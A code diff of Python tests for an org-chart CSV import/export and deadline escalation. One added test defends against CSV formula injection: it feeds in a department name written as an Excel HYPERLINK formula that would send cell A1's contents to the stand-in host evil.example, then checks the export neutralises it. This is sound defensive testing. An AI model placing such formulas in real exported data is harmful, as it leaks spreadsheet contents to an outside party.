@@ -157,6 +157,18 @@ def test_round_trip(services):
     assert org.export_csv(services) == first
 
 
+def test_a_name_excel_would_run_as_a_formula_is_exported_as_text(services):
+    """An insider names a department ``=HYPERLINK(...)``: the export does not hand Excel a
+    formula, and the round trip still gives the same name back."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    org.import_csv(services, "cli:test", f'kind,id,name,head\ndepartment,q,"{hostile.replace(chr(34), chr(34) * 2)}",boss\n')
+    exported = org.export_csv(services)
+    assert "\n" + "department,q,\"'=HYPERLINK" in exported.replace("\r\n", "\n")
+    assert not any(cell.startswith("=") for line in exported.splitlines() for cell in line.split(","))
+    org.import_csv(services, "cli:test", exported)
+    assert chart(services).departments["q"].name == hostile
+
+
 def test_a_change_is_seen_by_the_next_apply(services, engine):
     org.import_csv(services, "cli:test", CHART)
     wf = services.workflow
@@ -192,15 +204,38 @@ def test_each_database_has_its_own_cache(services, tmp_path):
         other.dispose()
 
 
-def test_tick_escalates_to_the_charts_manager(services):
-    """Escalations ``to: manager`` use OrgChart.manager_of: without a recorded manager, the
-    department head."""
-    org.import_csv(services, "cli:test", "kind,id,name,head,department,manager\n"
-                   "department,q,质量部,boss,,\nuser,clerk,,,q,\n")
-    with services.database.reading() as s:
-        managers = services.workflow._managers(s, [])
-        assert managers == {}
-        assert services.workflow.org_chart(s).manager_of("clerk") == "boss"
+def test_tick_escalates_to_the_department_head_when_no_manager_is_recorded(sessions, engine):
+    """Escalations ``to: manager`` follow OrgChart.manager_of: clerk2 has no manager recorded,
+    so the head of clerk2's department is told and may act; with that head deactivated, the
+    level falls back to its role as before."""
+    from engine.app.worker import Worker
+    from tests.helpers.service import open_task
+    from tests.helpers.time import Clock, local, time_setup
+
+    clock = Clock(local("2026-09-30 16:00"))
+    wf = time_setup(sessions, clock)
+    services = Services(wf.config, Database(engine), wf)
+    for head_active in (True, False):
+        clock.set(local("2026-09-30 16:00"))
+        if head_active:
+            org.save_department(services, "cli:test", "desk", name="服务台", head="boss", create=True)
+            org.set_person(services, "cli:test", "clerk2", department="desk")
+        else:
+            with services.database.writing() as s:
+                user_store.set_active(s, "boss", False)
+        with sessions() as s:
+            state = wf.start(s, "timed-steps", "clerk2", {"kind": "due", "promised": "2026-10-09T10:00:00+08:00"})
+            wf.claim(s, open_task(state, "by_due"), "clerk2")
+            s.commit()
+        clock.set(local("2026-10-09 10:00"))
+        Worker(wf, sessions).run_once()
+        with sessions() as s:
+            [esc] = [e for e in s.scalars(select(Event).where(Event.instance_id == state["id"]))
+                     if e.type == "deadline:escalated"]
+        if head_active:
+            assert (esc.data["to"], esc.data["user"], esc.data["of"]) == ("manager", "boss", "clerk2")
+        else:
+            assert esc.data["to"] == "director" and esc.data["fallback"] == "manager"
 
 
 def test_changes_are_audited_on_their_own_chain(services):
